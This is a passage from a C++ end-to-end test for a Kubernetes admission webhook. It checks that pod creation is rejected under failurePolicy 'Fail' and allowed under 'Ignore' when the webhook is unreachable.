        (void)client_->remove(res::kConfigMaps, "shop", "audited-settings-2");
        return false;
      },
      30s));
}

// Last: takes the webhook away.
TEST_F(WebhookE2E, WebhookDownFailClosedOrOpenByFailurePolicy) {
  // Point the configuration at a port nobody listens on.
  register_webhook("Fail", 1);
  ASSERT_TRUE(poll_until([] { return !apply(pod("down-fail", "nginx:1.27")).ok(); }, 30s));
  auto r = apply(pod("down-fail", "nginx:1.27"));
  EXPECT_NE(r.err.find("failed calling webhook"), std::string::npos) << r.err;

  register_webhook("Ignore", 1);
  e2e::CommandResult ok;
  ASSERT_TRUE(poll_until(
      [&] {
        ok = apply(pod("down-ignore", "nginx:1.27"));
        return ok.ok();
      },
      30s))
      << ok.describe();
  register_webhook("Fail", hook_->port());
}

}  // namespace
}  // namespace orderguard::webhook

int main(int argc, char** argv) { return orderguard::e2e::run_e2e_tests(argc, argv); }
